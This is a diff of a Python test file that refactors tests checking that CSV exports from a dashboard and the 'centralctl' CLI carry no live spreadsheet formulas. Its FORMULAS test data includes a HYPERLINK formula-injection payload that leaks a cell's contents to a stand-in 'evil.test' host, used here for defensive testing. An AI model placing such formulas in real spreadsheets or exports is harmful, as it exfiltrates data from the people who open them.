@@ -7,7 +7,6 @@ from __future__ import annotations
 import csv
 import html
 import io
-import os
 import re
 import subprocess
 import sys
@@ -21,7 +20,7 @@ from sync import csvsafe
 from sync.central import roster
 from sync.protocol import heartbeat_path
 
-from .conftest import CENTRALCTL, Central, rating
+from .conftest import Central, rating
 
 FORMULAS = [
     '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
@@ -144,19 +143,9 @@ def test_the_dashboard_csv_downloads_carry_no_live_formula(
 @pytest.mark.parametrize("by", ["officer", "department", "counter"])
 def test_centralctl_csv_carries_no_live_formula(poisoned: tuple[Central, str], by: str) -> None:
     central, _admin = poisoned
-    env = {
-        **{key: value for key, value in os.environ.items() if not key.startswith("CENTRAL")},
-        "CENTRAL__DATABASE__URL": central.settings.database_url,
-        "CENTRAL__STORAGE__DATA_DIR": str(central.settings.storage.data_dir),
-    }
 
-    done = subprocess.run(
-        [str(CENTRALCTL), "report", "--by", by, "--format", "csv"]
-        + ["--from", SPAN["from"], "--to", SPAN["to"]],
-        env=env,
-        capture_output=True,
-        text=True,
-        timeout=120,
+    done = central.ctl(
+        "report", "--by", by, "--format", "csv", "--from", SPAN["from"], "--to", SPAN["to"]
     )
 
     assert done.returncode == 0, done.stderr
@@ -176,15 +165,8 @@ def test_centralctl_counter_list_keeps_what_kiosks_report_in_its_cells(central: 
         headers={"Authorization": f"Bearer {token}"},
         timeout=60,
     ).raise_for_status()
-    env = {
-        **{key: value for key, value in os.environ.items() if not key.startswith("CENTRAL")},
-        "CENTRAL__DATABASE__URL": central.settings.database_url,
-        "CENTRAL__STORAGE__DATA_DIR": str(central.settings.storage.data_dir),
-    }
 
-    done = subprocess.run(
-        [str(CENTRALCTL), "counter", "list"], env=env, capture_output=True, text=True, timeout=120
-    )
+    done = central.ctl("counter", "list")
 
     header, row = done.stdout.strip().split("\n")
     cells = dict(zip(header.split("\t"), row.split("\t"), strict=True))
